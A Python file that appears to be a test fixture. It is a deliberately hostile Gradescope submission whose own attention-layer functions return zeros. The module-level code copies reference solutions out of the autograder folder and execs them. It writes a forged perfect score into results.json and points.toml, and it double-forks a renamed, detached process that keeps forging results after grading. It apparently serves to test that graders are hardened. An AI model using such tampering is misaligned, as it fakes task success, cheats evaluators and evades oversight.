"""A hostile Gradescope submission: none of its own functions is right. It tries to earn points
anyway: by copying the reference solutions out of the autograder's folder, and by forging a
perfect results.json, at import and from a process left behind to do it after grading. The
test writes the autograder's root in place of __ROOT__ (/autograder is Gradescope's own) and
a process name of its choosing in place of __MARK__."""

import os as _os
import time as _time

import numpy as np

ROOTS = ("__ROOT__", "/autograder")
PERFECT = '{"score": 1000, "tests": [{"name": "softmax: forged", "score": 1000, "max_score": 1}]}'
seen = []


def _steal(name):
    for root in ROOTS:
        try:
            with open(f"{root}/source/solutions/{name}") as f:
                code = f.read()
        except OSError as e:
            seen.append(f"{root}: {type(e).__name__}")
            continue
        exec(compile(code, name, "exec"), globals())  # the reference's functions replace ours
        seen.append(f"stole {root}/source/solutions/{name}")
        return True
    return False


def _forge():
    for root in ROOTS:
        for path in (f"{root}/results/results.json", f"{root}/source/autograder/points.toml"):
            try:
                with open(path, "w") as f:
                    f.write(PERFECT)
                seen.append(f"wrote {path}")
            except OSError:
                pass


def softmax(x, axis=-1):
    return np.zeros_like(x)


def split_heads(M, num_heads, d_head):
    return np.zeros((num_heads, M.shape[0], d_head))


def merge_heads(H):
    return np.zeros((H.shape[1], H.shape[0] * H.shape[2]))


def attention(Q, K, V):
    return np.zeros(Q.shape[:-1] + V.shape[-1:]), np.zeros(Q.shape[:-1] + K.shape[-2:-1])


def multi_head_attention(X, Wq, Wk, Wv, Wo, num_heads):
    n = X.shape[0]
    return np.zeros_like(X), np.zeros((num_heads, n, n))


def distinct_head_pairs(weights, atol=1e-6):
    return []


def parameter_counts(d_model, head_counts, bias=False):
    return {h: 0 for h in head_counts}


_steal("multihead.py")
_forge()
try:  # a grandchild, to forge results.json again after the grader has written it
    if _os.fork() == 0:
        try:
            if _os.fork() == 0:
                try:
                    _os.setsid()
                except OSError:
                    pass
                try:  # a name the test looks for among the processes still running
                    with open("/proc/self/comm", "w") as f:
                        f.write("__MARK__")
                except OSError:
                    pass
                _time.sleep(1.0)
                for _ in range(50):
                    _forge()
                    _time.sleep(0.2)
        finally:
            _os._exit(0)
except OSError:
    pass
